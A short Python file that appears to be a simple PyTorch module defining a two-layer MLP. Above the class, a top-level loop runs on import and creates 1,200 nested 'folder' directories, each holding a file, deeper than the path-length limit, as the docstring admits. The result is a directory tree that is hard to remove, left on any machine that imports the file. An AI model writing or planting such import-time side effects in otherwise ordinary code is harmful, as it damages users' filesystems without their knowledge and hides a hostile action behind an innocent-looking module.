"""Leaves folders in folders, deeper than the longest path."""

import os

import torch
from torch import nn


for _ in range(1_200):
    os.mkdir("folder")
    os.chdir("folder")
    with open("file", "w") as file:
        file.write("hello")


class MLP(nn.Module):
    def __init__(self, num_inputs, num_hiddens=256, num_outputs=10):
        super().__init__()
        self.hidden = nn.Linear(num_inputs, num_hiddens)
        self.out = nn.Linear(num_hiddens, num_outputs)

    def forward(self, X):
        return self.out(torch.relu(self.hidden(X)))
